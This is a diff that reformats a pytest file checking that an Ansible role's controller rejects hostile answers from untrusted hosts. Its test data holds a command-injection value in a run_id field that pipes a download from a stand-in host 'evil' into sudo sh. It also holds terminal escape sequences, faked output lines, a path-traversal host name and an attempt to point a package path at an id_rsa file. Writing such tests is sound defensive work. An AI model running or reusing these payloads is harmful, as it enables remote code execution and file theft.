@@ -1,6 +1,7 @@
-"""A host that is not trusted answers as it likes: no answer runs anything on the controller, reads a file of it, chooses its
-settings, steers its terminal or takes the answers of the other hosts away. The hosts are local connections whose Python
-is a script that prints an answer; the controller is real.
+"""A host that is not trusted answers as it likes: no answer runs anything on the controller, reads
+a file of it, chooses its settings, steers its terminal or takes the answers of the other hosts
+away. The hosts are local connections whose Python is a script that prints an answer; the controller
+is real.
 """
 
 from __future__ import annotations
@@ -13,12 +14,20 @@ from typing import Any
 
 import pytest
 
-from tests.fleet.controller import OF_UBUNTU_24_04, PLAYBOOKS, Controller, Played, environment, pythons
+from tests.fleet.controller import (
+    OF_UBUNTU_24_04,
+    PLAYBOOKS,
+    Controller,
+    Played,
+    environment,
+    pythons,
+)
 from tests.hosts.built import HOSTS
 
 pytestmark = pytest.mark.fleet
 
-# It keeps what the host is sent, and answers by the name of the module. No module of Ansible runs here.
+# It keeps what the host is sent, and answers by the name of the module. No module of Ansible runs
+# here.
 INTERPRETER = """\
 #!/bin/sh
 case "$1" in *AnsiballZ_*) ;; *) exec /usr/bin/python3 "$@" ;; esac
@@ -62,7 +71,9 @@ class Hosts:
         self.payload = folder / "payload.yml"
         self.payload.write_text(json.dumps(tasks))
 
-    def add(self, name: str, variables: dict[str, Any] | None = None, **answers: dict[str, Any]) -> None:
+    def add(
+        self, name: str, variables: dict[str, Any] | None = None, **answers: dict[str, Any]
+    ) -> None:
         """A host, with its answer to each module."""
         own = self.folder / f"host{len(self._names)}"
         own.mkdir()
@@ -90,8 +101,12 @@ class Hosts:
 
     def has_sent(self, name: str, content: str) -> bool:
         sent = self.sent(name)
-        sites = (base64.b64decode(one).decode() for one in re.findall(r'"_site\W+([\w+/=]+)', sent))  # policy and rules
-        return base64.b64encode(content.encode()).decode() in sent or any(content in text for text in (sent, *sites))
+        sites = (
+            base64.b64decode(one).decode() for one in re.findall(r'"_site\W+([\w+/=]+)', sent)
+        )  # policy and rules
+        return base64.b64encode(content.encode()).decode() in sent or any(
+            content in text for text in (sent, *sites)
+        )
 
 
 @pytest.fixture
@@ -101,7 +116,10 @@ def hosts(programs: Path, tmp_path: Path) -> Hosts:
 
 @pytest.fixture(params=["newest", "oldest"])
 def either_hosts(request: pytest.FixtureRequest, programs: Path, tmp_path: Path) -> Hosts:
-    return Hosts(programs if request.param == "newest" else environment(pythons()[-1], OF_UBUNTU_24_04), tmp_path)
+    return Hosts(
+        programs if request.param == "newest" else environment(pythons()[-1], OF_UBUNTU_24_04),
+        tmp_path,
+    )
 
 
 def facts(hosts: Hosts) -> dict[str, Any]:
@@ -110,7 +128,11 @@ def facts(hosts: Hosts) -> dict[str, Any]:
 
 def test_facts_in_an_answer_run_no_tasks_on_the_controller(either_hosts: Hosts):
     hosts = either_hosts
-    answer = ANSWER | WAITS | {"ansible_facts": facts(hosts), "add_host": {"host_name": "new", "groups": []}}
+    answer = (
+        ANSWER
+        | WAITS
+        | {"ansible_facts": facts(hosts), "add_host": {"host_name": "new", "groups": []}}
+    )
     hosts.add("evil", {"hosttune_reboot": False}, tune=answer)
     seen = hosts.play("apply.yml")
     assert seen.status == 0, seen.output
@@ -135,18 +157,39 @@ SITE = [{"hosts": "all", "gather_facts": True, "roles": ["hosttune.hosttune.host
 
 def test_facts_that_a_site_gathers_are_refused_with_host_and_name(either_hosts: Hosts):
     hosts = either_hosts
-    hosts.add("evil", {"hosttune_reboot": False}, setup={"ansible_facts": facts(hosts)}, tune=ANSWER | WAITS)
+    hosts.add(
+        "evil",
+        {"hosttune_reboot": False},
+        setup={"ansible_facts": facts(hosts)},
+        tune=ANSWER | WAITS,
+    )
     seen = hosts.play(SITE)
     assert seen.status == 2, seen.output
-    assert "evil: its facts set hosttune_drain_tasks, hosttune_reboot, which only the controller may set" in seen.output
+    assert (
+        "evil: its facts set hosttune_drain_tasks, hosttune_reboot, which only the controller may set"
+        in seen.output
+    )
     assert '"state": "applied"' not in hosts.sent("evil")
 
 
 def test_facts_that_a_site_gathers_are_not_printed(hosts: Hosts):
-    """Ansible validates the variables of a role before its first task, and prints the value that does not fit."""
+    """Ansible validates the variables of a role before its first task, and prints the value that
+    does not fit.
+    """
     spoilt = "\x1b[2J\x1b]0;T\x07\nPLAY RECAP ***\ngood : ok=9"
-    names = ("max_risk", "disturb", "install", "reboot_timeout", "reboot", "select", "policy", "deb")
-    hosts.add("evil", setup={"ansible_facts": {f"hosttune_{name}": spoilt for name in names}}, tune=ANSWER)
+    names = (
+        "max_risk",
+        "disturb",
+        "install",
+        "reboot_timeout",
+        "reboot",
+        "select",
+        "policy",
+        "deb",
+    )
+    hosts.add(
+        "evil", setup={"ansible_facts": {f"hosttune_{name}": spoilt for name in names}}, tune=ANSWER
+    )
     seen = hosts.play(SITE)
     assert seen.status == 2, seen.output
     assert "evil: its facts set hosttune_deb" in seen.output
@@ -154,8 +197,12 @@ def test_facts_that_a_site_gathers_are_not_printed(hosts: Hosts):
     assert "good : ok=9" not in seen.output
 
 
-@pytest.mark.parametrize(("name", "value"), [("reboot", "perhaps"), ("reboot_timeout", "soon"), ("install", "rpm")])
-def test_wrong_value_of_the_role_is_refused_before_the_host_is_asked(hosts: Hosts, name: str, value: str):
+@pytest.mark.parametrize(
+    ("name", "value"), [("reboot", "perhaps"), ("reboot_timeout", "soon"), ("install", "rpm")]
+)
+def test_wrong_value_of_the_role_is_refused_before_the_host_is_asked(
+    hosts: Hosts, name: str, value: str
+):
     hosts.add("good", tune=ANSWER)
     seen = hosts.play([SITE[0] | {"gather_facts": False}], **{f"hosttune_{name}": value})
     assert seen.status == 2, seen.output
@@ -163,13 +210,22 @@ def test_wrong_value_of_the_role_is_refused_before_the_host_is_asked(hosts: Host
     assert not hosts.sent("good")
 
 
-def test_facts_choose_no_file_through_other_variables_and_those_of_the_inventory_count(either_hosts: Hosts):
-    """A fact site_folder would beat that of the inventory, of which the path of the policy is made."""
+def test_facts_choose_no_file_through_other_variables_and_those_of_the_inventory_count(
+    either_hosts: Hosts,
+):
+    """A fact site_folder would beat that of the inventory, of which the path of the policy is
+    made.
+    """
     hosts = either_hosts
     for name in ("site", "secret"):
         (hosts.folder / name).mkdir()
         (hosts.folder / name / "noble.yaml").write_text(f"# policy of {name}")
-    gathered = {"ansible_facts": {"site_folder": str(hosts.folder / "secret"), "ansible_distribution_release": "noble"}}
+    gathered = {
+        "ansible_facts": {
+            "site_folder": str(hosts.folder / "secret"),
+            "ansible_distribution_release": "noble",
+        }
+    }
     variables = {
         "site_folder": str(hosts.folder / "site"),
         "hosttune_policy_file": "{{ site_folder }}/{{ ansible_facts.distribution_release }}.yaml",
@@ -201,38 +257,70 @@ def test_facts_choose_nothing_through_hostvars(either_hosts: Hosts):
 def test_facts_set_no_words_of_a_playbook(hosts: Hosts):
     """They are read once, on the first host of the play, which may be this one."""
     away = str(hosts.folder / "elsewhere")
-    words = {"results": away, "omit": away, "approved": "1" * 64, "hosttune_require_compliant": False}
+    words = {
+        "results": away,
+        "omit": away,
+        "approved": "1" * 64,
+        "hosttune_require_compliant": False,
+    }
     hosts.add("evil", setup={"ansible_facts": words}, tune_info=ANSWER)
-    hosts.add("good", setup={"ansible_facts": {}}, tune_info=ANSWER | {"compliant": False, "check": {"host": "x"}})
+    hosts.add(
+        "good",
+        setup={"ansible_facts": {}},
+        tune_info=ANSWER | {"compliant": False, "check": {"host": "x"}},
+    )
     gather: list[dict[str, Any]] = [{"hosts": "all", "gather_facts": True, "tasks": []}]
-    seen = hosts.play([*gather, {"ansible.builtin.import_playbook": str(PLAYBOOKS / "check.yml")}], results="")
+    seen = hosts.play(
+        [*gather, {"ansible.builtin.import_playbook": str(PLAYBOOKS / "check.yml")}], results=""
+    )
     assert seen.status == 2, seen.output
     assert not (hosts.folder / "elsewhere").exists()
     assert not (hosts.folder / "hosttune-results").exists()
-    assert "evil: its facts set hosttune_require_compliant, omit, which only the controller may set" in seen.output
-    assert re.search(r"^fatal: \[good\]: .*not as it should be: it gives no reason ", seen.output, re.MULTILINE)
+    assert (
+        "evil: its facts set hosttune_require_compliant, omit, which only the controller may set"
+        in seen.output
+    )
+    assert re.search(
+        r"^fatal: \[good\]: .*not as it should be: it gives no reason ", seen.output, re.MULTILINE
+    )
 
 
 @pytest.mark.parametrize("playbook", ["check.yml", "apply.yml"])
 def test_host_that_says_to_be_another_one_fails(hosts: Hosts, playbook: str):
-    hosts.add("evil", setup={"ansible_facts": {"inventory_hostname": "good"}}, tune_info=ANSWER, tune=ANSWER)
-    hosts.add("good", setup={"ansible_facts": {}}, tune_info=ANSWER | {"check": {"host": "x"}}, tune=ANSWER)
+    hosts.add(
+        "evil",
+        setup={"ansible_facts": {"inventory_hostname": "good"}},
+        tune_info=ANSWER,
+        tune=ANSWER,
+    )
+    hosts.add(
+        "good",
+        setup={"ansible_facts": {}},
+        tune_info=ANSWER | {"check": {"host": "x"}},
+        tune=ANSWER,
+    )
     gather: list[dict[str, Any]] = [{"hosts": "all", "gather_facts": True, "tasks": []}]
     play = [*gather, {"ansible.builtin.import_playbook": str(PLAYBOOKS / playbook)}]
     seen = hosts.play(play, results="", hosttune_serial="100%")
     assert seen.status == 2, seen.output
-    assert "evil: its facts set inventory_hostname, which only the controller may set" in seen.output
+    assert (
+        "evil: its facts set inventory_hostname, which only the controller may set" in seen.output
+    )
     assert re.search(r"^evil .* failed=1 ", seen.output, re.MULTILINE), seen.output
     assert re.search(r"^good .* failed=0 ", seen.output, re.MULTILINE), seen.output
 
 
 def test_facts_that_come_later_change_no_setting(hosts: Hosts):
-    """Each module of Ansible's own hands on the facts that a host answers; the package is brought after one of them."""
+    """Each module of Ansible's own hands on the facts that a host answers; the package is brought
+    after one of them.
+    """
     (hosts.folder / "hosttune.deb").write_text("the chosen package")
     (hosts.folder / "id_rsa").write_text("SECRET")
     later = {"changed": False, "ansible_facts": {"hosttune_deb": str(hosts.folder / "id_rsa")}}
     hosts.add("evil", {"hosttune_install": "deb", "hosttune_deb": str(hosts.folder / "hosttune.deb")}, tune=ANSWER, file=later)  # fmt: skip
-    seen = hosts.play([{"hosts": "all", "gather_facts": False, "roles": ["hosttune.hosttune.hosttune"]}])
+    seen = hosts.play(
+        [{"hosts": "all", "gather_facts": False, "roles": ["hosttune.hosttune.hosttune"]}]
+    )
     assert seen.status == 2, seen.output
     assert "evil: its facts set hosttune_deb, which only the controller may set" in seen.output
 
@@ -247,7 +335,9 @@ RECORD = HOSTS / "no-gpu-debian12.json"
 def looked(
     request: pytest.FixtureRequest, programs: Path, tmp_path_factory: pytest.TempPathFactory
 ) -> tuple[Hosts, Played]:
-    """One play of check.yml over all kinds of hosts, the first of them a bad one: on it runs what runs once."""
+    """One play of check.yml over all kinds of hosts, the first of them a bad one: on it runs what
+    runs once.
+    """
     own = programs if request.param == "newest" else environment(pythons()[-1], OF_UBUNTU_24_04)
     hosts = Hosts(own, tmp_path_factory.mktemp("looked"))
     hosts.add("bad", tune_info=ANSWER | MALFORMED)
@@ -262,7 +352,9 @@ def looked(
         "deferred": [{"rule": "r", "subject": "", "reason": ESCAPES}], "exception": ESCAPES,
     }  # fmt: skip
     hosts.add("loud", tune_info=ANSWER | loud)
-    hosts.add("loud-failed", tune_info={"failed": True, "msg": ESCAPES + FAKED, "exception": ESCAPES})
+    hosts.add(
+        "loud-failed", tune_info={"failed": True, "msg": ESCAPES + FAKED, "exception": ESCAPES}
+    )
     hosts.add("junk", tune_info={})
     (hosts.folder / "host8/tune_info.json").write_text(f"{ESCAPES}\n{{}}\n{ESCAPES}\r{FAKED}\n")
     seen = hosts.play("check.yml", gather="record", results=str(hosts.folder / "a/b/results"))
@@ -272,7 +364,10 @@ def looked(
 
 def test_record_is_kept_only_if_it_is_one(looked: tuple[Hosts, Played]):
     hosts, seen = looked
-    assert "tasks: the answer of this host is none of hosttune: record: expected a record of hosttune" in seen.output
+    assert (
+        "tasks: the answer of this host is none of hosttune: record: expected a record of hosttune"
+        in seen.output
+    )
     records = hosts.folder / "a/b/results/records"
     assert [path.name for path in records.iterdir()] == ["good.json"]
     assert (records / "good.json").read_text() == RECORD.read_text()
@@ -282,7 +377,9 @@ def test_malformed_answer_costs_its_host_only(looked: tuple[Hosts, Played]):
     hosts, seen = looked
     why = "the answer of this host is none of hosttune: digest: expected 64 digits of 0-9 and a-f"
     assert f"\n  bad: {why}\n" in seen.output
-    kept = {path.stem: json.loads(path.read_text()) for path in hosts.folder.glob("a/b/results/*.json")}
+    kept = {
+        path.stem: json.loads(path.read_text()) for path in hosts.folder.glob("a/b/results/*.json")
+    }
     assert kept["good"]["hosts"] == [{"host": "good"}]
     assert (kept["bad"]["kind"], kept["bad"]["reason"]) == ("hosttune missing", why)
 
@@ -290,7 +387,9 @@ def test_malformed_answer_costs_its_host_only(looked: tuple[Hosts, Played]):
 def test_text_of_a_host_steers_no_terminal_and_makes_no_line(looked: tuple[Hosts, Played]):
     _hosts, seen = looked
     assert "\n  loud: \\x1b]0;TITLE\\x07\\x1b[2J\\u202e\\x9b31m {{ lookup(" in seen.output
-    assert not [char for char in seen.output if not char.isprintable() and char not in "\n\t"], seen.output
+    assert not [char for char in seen.output if not char.isprintable() and char not in "\n\t"], (
+        seen.output
+    )
     assert "\n2 hosts: made" not in seen.output
     assert "\n1 host: nothing to change" not in seen.output
 
@@ -301,7 +400,11 @@ def test_name_in_the_inventory_leaves_no_folder(looked: tuple[Hosts, Played]):
         "../../trav: not all that it answered is kept: its name in the inventory is not a valid file name"
         in seen.output
     )
-    kept = {path.name for path in hosts.folder.rglob("*.json") if path.name in ("trav.json", ".hidden.json")}
+    kept = {
+        path.name
+        for path in hosts.folder.rglob("*.json")
+        if path.name in ("trav.json", ".hidden.json")
+    }
     assert kept == set()
 
 
@@ -312,15 +415,25 @@ def test_digest_for_which_hosts_show_other_changes_is_told(looked: tuple[Hosts, 
 
 
 def test_rollout_names_a_bad_answer_and_prints_no_command_of_a_host(hosts: Hosts):
-    injected = {"digest": "1" * 64, "changes": [CHANGE], "run_id": "r1; curl -s http://evil/x|sudo sh #"}
+    injected = {
+        "digest": "1" * 64,
+        "changes": [CHANGE],
+        "run_id": "r1; curl -s http://evil/x|sudo sh #",
+    }
     hosts.add("bad", tune=ANSWER | MALFORMED)
     hosts.add("evil", tune=ANSWER | injected)
-    hosts.add("good", tune=ANSWER | {"digest": "1" * 64, "changes": [CHANGE], "run_id": "20260101-000000-abcd"})
+    hosts.add(
+        "good",
+        tune=ANSWER | {"digest": "1" * 64, "changes": [CHANGE], "run_id": "20260101-000000-abcd"},
+    )
     seen = hosts.play("apply.yml", hosttune_serial="100%")
     assert seen.status == 2, seen.output
     assert "\n1 host: 1 change made\n  good\n" in seen.output
     told = seen.output.partition("2 hosts: failed or gave no answer\n")[2]
     assert told.startswith("  bad: the answer of this host is none of hosttune: digest: ")
-    assert "\n  evil: the answer of this host is none of hosttune: run_id: expected the name of a run\n" in told
+    assert (
+        "\n  evil: the answer of this host is none of hosttune: run_id: expected the name of a run\n"
+        in told
+    )
     assert "/undo.yml -e run_id=20260101-000000-abcd\n" in seen.output
     assert "curl" not in seen.output
